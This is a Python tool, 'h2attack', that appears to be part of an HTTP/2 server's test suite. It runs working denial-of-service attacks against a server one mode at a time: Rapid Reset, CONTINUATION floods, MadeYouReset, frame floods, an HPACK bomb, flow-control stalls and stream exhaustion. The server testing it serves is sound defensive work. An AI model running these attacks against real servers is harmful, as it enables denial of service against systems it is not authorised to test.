#!/usr/bin/python3
"""h2attack — a hostile HTTP/2 client: one known attack per mode.

    h2attack.py MODE --port P [--host 127.0.0.1] [--ca tests/certs/ca.crt | --insecure]
                [--source ADDR] [--wait SECONDS] [--count N] [--path /big]

Connects over TLS with ALPN h2 (the certificate is checked against --ca for
the name "localhost"), runs one attack and prints one JSON line with what the
server did, for example
    {"mode": "ping", "goaway": 11, "closed": true, "frames_sent": 150, ...}
The caller judges the result; this tool only reports. Fields:
    goaway         error code of the server's GOAWAY (the first non-zero one,
                   else 0 when only NO_ERROR came), null when none came
    closed         the server closed the connection (EOF, reset, or a write
                   failed because it was gone) within the run or --wait
    close_how      eof | close_notify | reset | write: ... | null
    frames_sent    frames this client wrote (the preface's SETTINGS included)
    responses      streams that got a response head; statuses: {code: count}
    rst_codes      RST_STREAM frames the server sent, by error code
    data_frames, small_data_frames (DATA shorter than 1024 bytes without
                   END_STREAM), data_bytes, ping_acks, settings_acks,
                   server_settings (the server's SETTINGS, by name)
Exit status 0 when the attack ran (whatever the server did), 2 when it could
not start (connect, TLS, no h2 by ALPN, bad arguments).

Frames the h2 library will not send (protocol violations, floods, raw HPACK)
are written by hand after the preface: a 9-byte header (length 3, type 1,
flags 1, stream id 4) and a payload. The server's frames are read by a small
frame reader here (h2's state machine would reject the very frames this tool
provokes); header blocks are decoded with hpack, h2's HPACK library. The mode
"get" is an ordinary request made with h2's state machine: a check that the
tool and the server understand each other before the attacks mean anything.

Every loop is bounded in count and time; every socket operation has a timeout.
"""

import argparse
import collections
import json
import select
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.settings
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, \
    WINDOW_UPDATE, CONTINUATION = range(10)
UNKNOWN_TYPE = 0xFA
END_STREAM = 0x1
ACK = 0x1
END_HEADERS = 0x4
PADDED = 0x8
PRIORITY_FLAG = 0x20

CANCEL = int(h2.errors.ErrorCodes.CANCEL)
REFUSED_STREAM = int(h2.errors.ErrorCodes.REFUSED_STREAM)
SMALL_DATA = 1024   # DATA shorter than this (and not the last) is a dribble answered
MAX_FRAME = 16384   # the default SETTINGS_MAX_FRAME_SIZE: never sent larger


class SetupError(Exception):
    pass


def frame(ftype, flags, sid, payload=b""):
    return (len(payload).to_bytes(3, "big") + bytes((ftype, flags))
            + (sid & 0x7FFFFFFF).to_bytes(4, "big") + payload)


def error_name(code):
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return "0x%x" % code


def setting_name(code):
    try:
        return h2.settings.SettingCodes(code).name
    except ValueError:
        return "0x%x" % code


# ---------------------------------------------------------------- raw HPACK
# Stateless encodings (literals without indexing, static-table names), so a
# block can be repeated or sent on any stream without keeping an encoder in
# step with the server's decoder.

def hp_int(value, prefix_bits, first):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes((first | value,))
    out = bytearray((first | limit,))
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hp_str(s):
    b = s.encode() if isinstance(s, str) else s
    return hp_int(len(b), 7, 0) + b


def hp_literal(name, value):
    """Literal header field without indexing, new name."""
    return b"\x00" + hp_str(name) + hp_str(value)


def hp_literal_indexed_name(index, value):
    """Literal without indexing, name from the static table."""
    return hp_int(index, 4, 0) + hp_str(value)


def hp_incremental(name, value):
    """Literal with incremental indexing, new name: enters the dynamic table."""
    return b"\x40" + hp_str(name) + hp_str(value)


def request_block(path, method="GET", authority="localhost", extra=()):
    if method == "GET":
        block = b"\x82"          # :method GET (static 2)
    else:
        block = hp_literal_indexed_name(2, method)
    block += b"\x87"             # :scheme https (static 7)
    block += hp_literal_indexed_name(4, path)        # :path
    block += hp_literal_indexed_name(1, authority)   # :authority
    for name, value in extra:
        block += hp_literal(name, value)
    return block


def header_frames(sid, block, end_stream=True):
    """HEADERS (+ CONTINUATION) frames carrying BLOCK, each at most MAX_FRAME."""
    pieces = [block[i:i + MAX_FRAME] for i in range(0, len(block), MAX_FRAME)] or [b""]
    out = b""
    for i, piece in enumerate(pieces):
        flags = END_HEADERS if i == len(pieces) - 1 else 0
        if i == 0:
            out += frame(HEADERS, flags | (END_STREAM if end_stream else 0), sid, piece)
        else:
            out += frame(CONTINUATION, flags, sid, piece)
    return out, len(pieces)


# ---------------------------------------------------------------- the connection

class Peer:
    """One TLS connection speaking raw HTTP/2 frames, with a frame reader."""

    def __init__(self, args):
        self.args = args
        self.t0 = time.monotonic()
        self.frames_sent = 0
        self.bytes_sent = 0
        self.closed = False          # the server closed (read side saw the end, or a write failed)
        self.close_how = None
        self.write_failed = False
        self.read_over = False       # the read side saw the end (EOF, close_notify, reset)
        self.send_blocked = False    # a write could not finish within the timeout
        self.goaways = []            # (last stream id, error code, debug text)
        self.statuses = {}           # stream id -> :status
        self.ended = set()           # streams the server ended (END_STREAM)
        self.rst = {}                # stream id -> error code
        self.rst_codes = collections.Counter()
        self.frames_received = collections.Counter()
        self.data_frames = 0
        self.small_data_frames = 0
        self.small_sizes = []
        self.data_bytes = 0
        self.data_sizes = []         # the first few, for the report
        self.stream_data = collections.Counter()
        self.ping_acks = 0
        self.settings_acks = 0
        self.server_settings = None
        self.hpack_errors = 0
        self.conn_window_refill = False   # give the connection window back as DATA arrives
        self.quiet = False           # send nothing unasked (no ACKs): a client that has not begun
        self.buf = bytearray()
        self.out = bytearray()
        self.hblock = None           # (stream id, END_STREAM, fragments) of a header block in progress
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 20

        try:
            raw = socket.create_connection((args.host, args.port), timeout=args.timeout,
                                           source_address=(args.source, 0) if args.source else None)
        except OSError as e:
            raise SetupError("connect %s:%d: %s" % (args.host, args.port, e)) from e
        if args.insecure:
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
        else:
            ctx = ssl.create_default_context(cafile=args.ca)
        ctx.set_alpn_protocols(["h2"])
        try:
            self.s = ctx.wrap_socket(raw, server_hostname=args.servername)
        except (OSError, ssl.SSLError) as e:
            raw.close()
            raise SetupError("TLS handshake: %s" % e) from e
        if self.s.selected_alpn_protocol() != "h2":
            proto = self.s.selected_alpn_protocol()
            self.s.close()
            raise SetupError("the server did not select h2 by ALPN (got %r)" % proto)
        self.client = "%s:%d" % self.s.getsockname()[:2]

    # ------------------------------------------------ writing

    def preface(self, settings=None):
        """The client preface and SETTINGS, made by h2's connection state machine."""
        conn = h2.connection.H2Connection(
            config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        values = {h2.settings.SettingCodes.ENABLE_PUSH: 0}
        values.update(settings or {})
        conn.local_settings = h2.settings.Settings(client=True, initial_values=values)
        conn.initiate_connection()
        return self.send(conn.data_to_send(), 1)

    def alive(self):
        return not (self.closed or self.write_failed or self.send_blocked or self.goaways)

    def send(self, data, nframes=0):
        """Queue DATA (NFRAMES frames) and write everything queued; False once writing is over."""
        if self.write_failed or self.send_blocked or self.closed:
            return False
        self.out += data
        self.frames_sent += nframes
        return self.flush()

    def flush(self):
        if not self.out or self.write_failed or self.send_blocked or self.closed:
            return not (self.write_failed or self.send_blocked or self.closed)
        self.s.settimeout(self.args.timeout)
        try:
            self.s.sendall(self.out)
        except socket.timeout:
            self.send_blocked = True
            return False
        except (OSError, ssl.SSLError) as e:
            self.write_failed = True
            if not self.closed:
                self.closed = True
                self.close_how = "write: %s" % (e.strerror or e.__class__.__name__)
            return False
        self.bytes_sent += len(self.out)
        self.out.clear()
        return True

    # ------------------------------------------------ reading

    def _mark_closed(self, how):
        if not self.closed:
            self.closed = True
            self.close_how = how
        self.read_over = True

    def pump(self, wait=0.0, until=None, ping_every=None, max_bytes=64 << 20):
        """Read what the server sends for up to WAIT seconds (0: only what is
        there now), stopping early when UNTIL() is true or the connection is
        over. With PING_EVERY, sends a PING that often while waiting."""
        end = time.monotonic() + wait
        next_ping = time.monotonic() + ping_every if ping_every else None
        got = 0
        if self.read_over:
            return got
        while got < max_bytes:
            if until is not None and until():
                break
            self.s.settimeout(0.0)
            chunk = None
            try:
                chunk = self.s.recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                pass
            except ssl.SSLZeroReturnError:
                self._mark_closed("close_notify")
                break
            except ConnectionResetError:
                self._mark_closed("reset")
                break
            except (OSError, ssl.SSLError) as e:
                self._mark_closed("read: %s" % (getattr(e, "reason", None) or e.__class__.__name__))
                break
            if chunk == b"":
                self._mark_closed("eof")
                break
            if chunk:
                got += len(chunk)
                self.buf += chunk
                self.parse()
                self.flush()
                continue
            now = time.monotonic()
            if next_ping is not None and now >= next_ping:
                self.send(frame(PING, 0, 0, int(now * 1000).to_bytes(8, "big")), 1)
                next_ping = now + ping_every
            if now >= end:
                break
            nap = end - now
            if next_ping is not None:
                nap = min(nap, max(0.0, next_ping - now))
            select.select([self.s], [], [], min(nap, 0.05))
        self.flush()
        return got

    def wait_closed(self, wait, ping_every=None):
        """Reads until the server's end of the stream (also after a failed
        write: what it sent before closing, its GOAWAY, is still to be read)."""
        self.pump(wait, until=lambda: self.read_over, ping_every=ping_every)
        return self.closed

    def handshake(self, wait=5.0):
        """Waits for the server's first SETTINGS (answered with an ACK)."""
        self.pump(wait, until=lambda: self.server_settings is not None)

    def parse(self):
        buf = self.buf
        off = 0
        while len(buf) - off >= 9:
            length = int.from_bytes(buf[off:off + 3], "big")
            if len(buf) - off < 9 + length:
                break
            ftype = buf[off + 3]
            flags = buf[off + 4]
            sid = int.from_bytes(buf[off + 5:off + 9], "big") & 0x7FFFFFFF
            payload = bytes(buf[off + 9:off + 9 + length])
            off += 9 + length
            self.on_frame(ftype, flags, sid, payload)
        del buf[:off]

    def on_frame(self, ftype, flags, sid, p):
        self.frames_received[ftype] += 1
        if ftype == DATA:
            size = len(p)
            if flags & PADDED and p:
                size = max(0, len(p) - 1 - p[0])
            self.data_frames += 1
            self.data_bytes += size
            self.stream_data[sid] += size
            if len(self.data_sizes) < 20:
                self.data_sizes.append(size)
            if size < SMALL_DATA and not flags & END_STREAM:
                self.small_data_frames += 1
                if len(self.small_sizes) < 20:
                    self.small_sizes.append(size)
            if flags & END_STREAM:
                self.ended.add(sid)
            if self.conn_window_refill and p:
                self.out += frame(WINDOW_UPDATE, 0, 0, len(p).to_bytes(4, "big"))
        elif ftype == HEADERS:
            frag = p
            if flags & PADDED and frag:
                pad = frag[0]
                frag = frag[1:len(frag) - pad] if pad < len(frag) else b""
            if flags & PRIORITY_FLAG:
                frag = frag[5:]
            self.hblock = (sid, bool(flags & END_STREAM), [frag])
            if flags & END_HEADERS:
                self.end_headers()
        elif ftype == CONTINUATION:
            if self.hblock is not None:
                self.hblock[2].append(p)
                if flags & END_HEADERS:
                    self.end_headers()
        elif ftype == RST_STREAM:
            code = int.from_bytes(p[:4], "big") if len(p) >= 4 else -1
            self.rst[sid] = code
            self.rst_codes[code] += 1
        elif ftype == SETTINGS:
            if flags & ACK:
                self.settings_acks += 1
            else:
                values = {}
                for i in range(0, len(p) - 5, 6):
                    values[int.from_bytes(p[i:i + 2], "big")] = int.from_bytes(p[i + 2:i + 6], "big")
                if self.server_settings is None:
                    self.server_settings = {}
                self.server_settings.update(values)
                if not self.quiet:
                    self.out += frame(SETTINGS, ACK, 0)
        elif ftype == PING:
            if flags & ACK:
                self.ping_acks += 1
            elif not self.quiet:
                self.out += frame(PING, ACK, 0, p)
        elif ftype == GOAWAY:
            last = int.from_bytes(p[0:4], "big") & 0x7FFFFFFF if len(p) >= 8 else -1
            code = int.from_bytes(p[4:8], "big") if len(p) >= 8 else -1
            self.goaways.append((last, code, p[8:200].decode("utf-8", "replace")))

    def end_headers(self):
        sid, end_stream, frags = self.hblock
        self.hblock = None
        try:
            fields = self.decoder.decode(b"".join(frags), raw=True)
        except Exception:   # any HPACK failure is reported, not fatal
            self.hpack_errors += 1
            return
        for name, value in fields:
            if name == b":status":
                try:
                    self.statuses.setdefault(sid, int(value))
                except ValueError:
                    self.statuses.setdefault(sid, -1)
        if end_stream:
            self.ended.add(sid)

    def close(self):
        try:
            self.s.close()
        except OSError:
            pass

    # ------------------------------------------------ the report

    def result(self, mode, **extra):
        goaway = None
        last = None
        debug = None
        for g_last, g_code, g_debug in self.goaways:
            if goaway is None or (goaway == 0 and g_code != 0):
                goaway, last, debug = g_code, g_last, g_debug
        statuses = collections.Counter(str(v) for v in self.statuses.values())
        r = {
            "mode": mode,
            "goaway": goaway,
            "goaway_name": error_name(goaway) if goaway is not None else None,
            "goaway_last_stream": last,
            "goaway_debug": debug or None,
            "closed": self.closed,
            "close_how": self.close_how,
            "frames_sent": self.frames_sent,
            "bytes_sent": self.bytes_sent,
            "send_blocked": self.send_blocked,
            "responses": len(self.statuses),
            "statuses": dict(sorted(statuses.items())),
            "rst_received": sum(self.rst_codes.values()),
            "rst_codes": {error_name(k): v for k, v in sorted(self.rst_codes.items())},
            "data_frames": self.data_frames,
            "data_bytes": self.data_bytes,
            "small_data_frames": self.small_data_frames,
            "ping_acks": self.ping_acks,
            "settings_acks": self.settings_acks,
            "server_settings": ({setting_name(k): v for k, v in sorted(self.server_settings.items())}
                                if self.server_settings is not None else None),
            "hpack_errors": self.hpack_errors,
            "client": self.client,
            "elapsed": round(time.monotonic() - self.t0, 2),
        }
        r.update(extra)
        return r


# ---------------------------------------------------------------- attacks

def flood(peer, make, count, per_item=1, batch=100):
    """Sends COUNT items (MAKE(i) -> bytes holding PER_ITEM frames) in batches,
    reading between batches, until done or the server has had enough."""
    sent = 0
    while sent < count and peer.alive():
        n = min(batch, count - sent)
        if not peer.send(b"".join(make(sent + i) for i in range(n)), n * per_item):
            break
        sent += n
        peer.pump(0)
    return sent


def finish(peer, mode, args, **extra):
    peer.wait_closed(args.wait)
    return peer.result(mode, **extra)


def m_rapid_reset(peer, args):
    """CVE-2023-44487: HEADERS then RST_STREAM(CANCEL) at once, again and again."""
    peer.preface()
    peer.handshake()
    block = request_block(args.path or "/big")
    count = args.count or 5000

    def one(i):
        sid = 1 + 2 * i
        return (frame(HEADERS, END_HEADERS | END_STREAM, sid, block)
                + frame(RST_STREAM, 0, sid, CANCEL.to_bytes(4, "big")))
    n = flood(peer, one, count, 2)
    return finish(peer, "rapid-reset", args, streams_opened=n)


def m_continuation(peer, args, empty):
    """CVE-2024-27316: a header block that never ends. Junk fields up to 20 MiB,
    or (EMPTY) empty CONTINUATION frames."""
    peer.preface()
    peer.handshake()
    peer.send(frame(HEADERS, END_STREAM, 1, request_block(args.path or "/small.txt")), 1)
    if empty:
        n = flood(peer, lambda i: frame(CONTINUATION, 0, 1), args.count or 20000)
        return finish(peer, "continuation-empty", args, continuations=n)
    # Each frame holds as many junk fields as fit in MAX_FRAME.
    field = hp_literal("x-junk", "j" * 1000)
    payload = field * (MAX_FRAME // len(field))
    limit = args.count or (20 << 20) // len(payload)
    n = flood(peer, lambda i: frame(CONTINUATION, 0, 1, payload), limit, batch=16)
    return finish(peer, "continuation", args, continuations=n,
                  block_bytes_sent=n * len(payload))


def m_made_you_reset(peer, args, variant):
    """CVE-2025-8671: valid requests followed by a frame the server must answer
    with RST_STREAM (RFC 9113: a stream error; a server may instead end the
    connection): WINDOW_UPDATE of 0 (PROTOCOL_ERROR), a WINDOW_UPDATE that
    overflows the stream window past 2^31-1 (FLOW_CONTROL_ERROR), DATA after
    END_STREAM (STREAM_CLOSED); or (malformed, the 2019 reset flood) a request
    with an upper-case header name (PROTOCOL_ERROR)."""
    peer.preface()
    peer.handshake()
    block = request_block(args.path or "/big")
    count = args.count or 5000

    def one(i):
        sid = 1 + 2 * i
        if variant == "malformed":
            return frame(HEADERS, END_HEADERS | END_STREAM, sid, bad_block)
        out = frame(HEADERS, END_HEADERS | END_STREAM, sid, block)
        if variant == "data":
            return out + frame(DATA, END_STREAM, sid, b"x")
        if variant == "overflow":
            return out + frame(WINDOW_UPDATE, 0, sid, (0x7FFFFFFF).to_bytes(4, "big"))
        return out + frame(WINDOW_UPDATE, 0, sid, (0).to_bytes(4, "big"))
    bad_block = request_block(args.path or "/big", extra=[("X-Upper-Case", "1")])
    n = flood(peer, one, count, 1 if variant == "malformed" else 2)
    return finish(peer, "made-you-reset" + ("" if variant == "window" else "-" + variant), args,
                  streams_opened=n)


def m_ping(peer, args):
    peer.preface()
    peer.handshake()
    n = flood(peer, lambda i: frame(PING, 0, 0, i.to_bytes(8, "big")), args.count or 10000)
    return finish(peer, "ping", args, pings=n)


def m_settings(peer, args):
    peer.preface()
    peer.handshake()
    n = flood(peer, lambda i: frame(SETTINGS, 0, 0), args.count or 10000)
    return finish(peer, "settings", args, settings=n)


def m_reset(peer, args):
    """RST_STREAM, again and again, on a stream the server already finished."""
    peer.preface()
    peer.handshake()
    peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(args.path or "/small.txt")), 1)
    peer.pump(5.0, until=lambda: 1 in peer.ended or 1 in peer.rst or not peer.alive())
    first = peer.statuses.get(1)
    n = flood(peer, lambda i: frame(RST_STREAM, 0, 1, CANCEL.to_bytes(4, "big")), args.count or 10000)
    return finish(peer, "reset", args, resets=n, first_status=first)


def m_empty_data(peer, args):
    """DATA of length 0 without END_STREAM on an open stream."""
    peer.preface()
    peer.handshake()
    peer.send(frame(HEADERS, END_HEADERS, 1, request_block(args.path or "/small.txt")), 1)
    n = flood(peer, lambda i: frame(DATA, 0, 1), args.count or 10000)
    return finish(peer, "empty-data", args, empty_frames=n)


def m_priority(peer, args):
    """PRIORITY frames, all for the one stream the client opened: no new
    stream state for a server to count, only frames that cost work."""
    peer.preface()
    peer.handshake()
    peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(args.path or "/small.txt")), 1)
    weight = (0).to_bytes(4, "big") + b"\x0f"
    n = flood(peer, lambda i: frame(PRIORITY, 0, 1, weight), args.count or 10000)
    return finish(peer, "priority", args, priority_frames=n)


def m_unknown(peer, args):
    peer.preface()
    peer.handshake()
    n = flood(peer, lambda i: frame(UNKNOWN_TYPE, 0, 0), args.count or 10000)
    return finish(peer, "unknown", args, unknown_frames=n)


def m_zero_window(peer, args, ping_every=None):
    """A big file requested with every stream window at 0, never opened: the
    server holds a response it cannot send. With PING_EVERY, PINGs (well within
    any PING budget) try to pass for activity."""
    peer.preface({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    peer.handshake()
    peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(args.path or "/big")), 1)
    t = time.monotonic()
    peer.wait_closed(args.wait, ping_every=ping_every)
    mode = "zero-window-ping" if ping_every else "zero-window"
    return peer.result(mode, closed_after=round(time.monotonic() - t, 2) if peer.closed else None,
                       status=peer.statuses.get(1))


def m_idle_ping(peer, args):
    """No stream at all, a PING every half second: PINGs are not activity."""
    peer.preface()
    peer.handshake()
    t = time.monotonic()
    peer.wait_closed(args.wait, ping_every=0.5)
    return peer.result("idle-ping", closed_after=round(time.monotonic() - t, 2) if peer.closed else None)


def m_dribble(peer, args):
    """Stream windows of 1 byte, opened 1 byte at a time (about 1000 bytes/s):
    a server that answers every byte of window sends 1-byte DATA frames."""
    peer.preface({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 1})
    peer.handshake()
    peer.conn_window_refill = True
    peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(args.path or "/big")), 1)
    one = frame(WINDOW_UPDATE, 0, 1, (1).to_bytes(4, "big"))
    duration = args.duration or 4.0
    end = time.monotonic() + duration
    updates = 0
    while time.monotonic() < end and peer.alive() and updates < 100000:
        if not peer.send(one * 5, 5):
            break
        updates += 5
        peer.pump(0.005)
    peer.pump(0.5)
    r = peer.result("dribble", window_updates=updates, window_given=updates + 1,
                    data_sizes=peer.data_sizes, small_sizes=peer.small_sizes,
                    status=peer.statuses.get(1))
    return r


def m_hpack_bomb(peer, args):
    """A large header enters the dynamic table; then one block names it by
    index thousands of times (a few bytes on the wire, megabytes decoded)."""
    peer.preface()
    peer.handshake()
    table = (peer.server_settings or {}).get(int(h2.settings.SettingCodes.HEADER_TABLE_SIZE), 4096)
    size = min(4000, table - 32 - len("x-bomb"))
    if size < 100:
        return peer.result("hpack-bomb", error="server header table too small (%d)" % table)
    path = args.path or "/small.txt"
    block1 = request_block(path) + hp_incremental("x-bomb", "b" * size)
    peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block1), 1)
    peer.pump(5.0, until=lambda: 1 in peer.statuses or 1 in peer.rst or not peer.alive())
    refs = args.count or (MAX_FRAME - 64)
    block3 = request_block(path) + b"\xbe" * refs   # indexed field 62: the newest dynamic entry
    peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 3, block3), 1)
    peer.pump(5.0, until=lambda: 3 in peer.statuses or 3 in peer.rst or not peer.alive())
    # The same connection afterwards: still usable?
    peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 5, request_block(path)), 1)
    peer.pump(3.0, until=lambda: 5 in peer.statuses or 5 in peer.rst or not peer.alive())
    return peer.result("hpack-bomb", entry_bytes=size + 32 + len("x-bomb"), references=refs,
                       decoded_bytes=refs * (size + len("x-bomb")),
                       status_seed=peer.statuses.get(1), status_bomb=peer.statuses.get(3),
                       rst_bomb=error_name(peer.rst[3]) if 3 in peer.rst else None,
                       status_after=peer.statuses.get(5))


def m_big_headers(peer, args):
    """A header list larger than max_request_head (16k: 24 fields of 1000
    bytes), then more fields than max_headers (150), then a plain request."""
    peer.preface()
    peer.handshake()
    path = args.path or "/small.txt"
    big = request_block(path, extra=[("x-big-%d" % i, "v" * 1000) for i in range(24)])
    out, n = header_frames(1, big)
    peer.send(out, n)
    many = request_block(path, extra=[("x-h-%d" % i, "v") for i in range(150)])
    out, n = header_frames(3, many)
    peer.send(out, n)
    peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 5, request_block(path)), 1)
    peer.pump(5.0, until=lambda: all(s in peer.statuses or s in peer.rst for s in (1, 3, 5))
              or not peer.alive())
    return peer.result("big-headers", block_bytes_big=len(big), block_bytes_many=len(many),
                       status_big=peer.statuses.get(1),
                       rst_big=error_name(peer.rst[1]) if 1 in peer.rst else None,
                       status_many=peer.statuses.get(3),
                       rst_many=error_name(peer.rst[3]) if 3 in peer.rst else None,
                       status_after=peer.statuses.get(5))


def m_streams(peer, args):
    """300 streams for a big file at once, nothing read for a second: the
    server may hold at most its limit (128) open and must refuse the rest."""
    peer.preface()
    peer.handshake()
    count = args.count or 300
    block = request_block(args.path or "/big")
    out = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, block) for i in range(count))
    peer.send(out, count)
    time.sleep(1.0)   # not reading: the server's answers pile up on its side
    sids = [1 + 2 * i for i in range(count)]
    peer.pump(5.0, until=lambda: all(s in peer.statuses or s in peer.rst for s in sids)
              or not peer.alive())
    accepted = sum(1 for s in sids if s in peer.statuses)
    refused = sum(1 for s in sids if peer.rst.get(s) == REFUSED_STREAM)
    # Accepted streams that were neither finished nor reset: open at once.
    open_streams = sum(1 for s in sids if s in peer.statuses and s not in peer.ended and s not in peer.rst)
    mcs = (peer.server_settings or {}).get(int(h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS))
    return peer.result("streams", streams_sent=count, accepted=accepted, refused=refused,
                       open_at_end=open_streams, unanswered=count - sum(
                           1 for s in sids if s in peer.statuses or s in peer.rst),
                       max_concurrent_streams=mcs)


def m_preface_timeout(peer, args, half):
    """TLS done, then nothing (or half the preface): the server must not wait forever."""
    peer.quiet = True
    if half:
        peer.send(PREFACE[:12], 0)
    t = time.monotonic()
    peer.wait_closed(args.wait)
    return peer.result("preface-half" if half else "preface-timeout",
                       closed_after=round(time.monotonic() - t, 2) if peer.closed else None)


def m_headers_stall(peer, args):
    """A header block begun (HEADERS without END_HEADERS) and never finished."""
    peer.preface()
    peer.handshake()
    peer.send(frame(HEADERS, END_STREAM, 1, request_block(args.path or "/small.txt")), 1)
    t = time.monotonic()
    peer.wait_closed(args.wait)
    return peer.result("headers-stall", closed_after=round(time.monotonic() - t, 2) if peer.closed else None)


def m_get(args, empty_data=False):
    """An ordinary GET through h2's state machine: status and body length.
    EMPTY_DATA: its HEADERS do not end the stream, an empty DATA frame does
    (legal, and what some clients send)."""
    peer = Peer(args)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    path = args.path or "/small.txt"
    conn.send_headers(1, [(":method", "GET"), (":scheme", "https"), (":path", path),
                          (":authority", "localhost")], end_stream=not empty_data)
    if empty_data:
        conn.send_data(1, b"", end_stream=True)
    status = None
    body = 0
    done = False
    end = time.monotonic() + args.wait
    peer.s.settimeout(args.timeout)
    while not done and time.monotonic() < end:
        data = conn.data_to_send()
        if data:
            peer.s.sendall(data)
        try:
            chunk = peer.s.recv(65536)
        except socket.timeout:
            continue
        if not chunk:
            break
        for ev in conn.receive_data(chunk):
            if isinstance(ev, h2.events.ResponseReceived):
                status = int(dict(ev.headers)[b":status"])
            elif isinstance(ev, h2.events.DataReceived):
                body += len(ev.data)
                conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
            elif isinstance(ev, (h2.events.StreamEnded, h2.events.StreamReset,
                                 h2.events.ConnectionTerminated)):
                done = True
    conn.close_connection()
    try:
        peer.s.sendall(conn.data_to_send())
    except OSError:
        pass
    peer.close()
    return {"mode": "get-empty-data" if empty_data else "get", "status": status,
            "body_bytes": body, "done": done}


MODES = {
    "get": None,
    "get-empty-data": None,
    "rapid-reset": m_rapid_reset,
    "continuation": lambda p, a: m_continuation(p, a, False),
    "continuation-empty": lambda p, a: m_continuation(p, a, True),
    "made-you-reset": lambda p, a: m_made_you_reset(p, a, "window"),
    "made-you-reset-data": lambda p, a: m_made_you_reset(p, a, "data"),
    "made-you-reset-overflow": lambda p, a: m_made_you_reset(p, a, "overflow"),
    "made-you-reset-malformed": lambda p, a: m_made_you_reset(p, a, "malformed"),
    "ping": m_ping,
    "settings": m_settings,
    "reset": m_reset,
    "empty-data": m_empty_data,
    "priority": m_priority,
    "unknown": m_unknown,
    "zero-window": m_zero_window,
    "zero-window-ping": lambda p, a: m_zero_window(p, a, ping_every=0.5),
    "idle-ping": m_idle_ping,
    "dribble": m_dribble,
    "hpack-bomb": m_hpack_bomb,
    "big-headers": m_big_headers,
    "streams": m_streams,
    "preface-timeout": lambda p, a: m_preface_timeout(p, a, False),
    "preface-half": lambda p, a: m_preface_timeout(p, a, True),
    "headers-stall": m_headers_stall,
}


def main():
    ap = argparse.ArgumentParser(description="A hostile HTTP/2 client: one attack per mode.")
    ap.add_argument("mode", choices=sorted(MODES))
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--ca", help="CA certificate the server's is checked against")
    ap.add_argument("--insecure", action="store_true", help="do not check the certificate")
    ap.add_argument("--servername", default="localhost")
    ap.add_argument("--source", help="local address to connect from")
    ap.add_argument("--timeout", type=float, default=5.0, help="per socket write/connect (s)")
    ap.add_argument("--wait", type=float, default=10.0, help="wait for the server to close (s)")
    ap.add_argument("--count", type=int, default=0, help="frames/streams/refs (mode's default)")
    ap.add_argument("--duration", type=float, default=0.0, help="dribble: seconds")
    ap.add_argument("--path", default="", help="path requested (mode's default)")
    args = ap.parse_args()
    if not args.ca and not args.insecure:
        ap.error("--ca FILE or --insecure")
    try:
        if args.mode in ("get", "get-empty-data"):
            r = m_get(args, args.mode == "get-empty-data")
        else:
            peer = Peer(args)
            try:
                r = MODES[args.mode](peer, args)
            finally:
                peer.close()
    except SetupError as e:
        print(json.dumps({"mode": args.mode, "error": str(e)}))
        return 2
    print(json.dumps(r))
    return 0


if __name__ == "__main__":
    sys.exit(main())
